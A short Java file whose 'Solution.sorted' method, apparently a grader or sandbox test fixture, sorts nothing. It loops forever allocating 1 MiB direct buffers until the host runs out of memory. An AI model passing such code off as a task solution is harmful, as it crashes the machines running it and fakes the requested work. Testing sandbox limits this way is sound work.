import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;

class Solution {
  int[] sorted(int[] numbers) {
    List<ByteBuffer> hoard = new ArrayList<>();
    while (true) {
      hoard.add(ByteBuffer.allocateDirect(1 << 20));
    }
  }
}
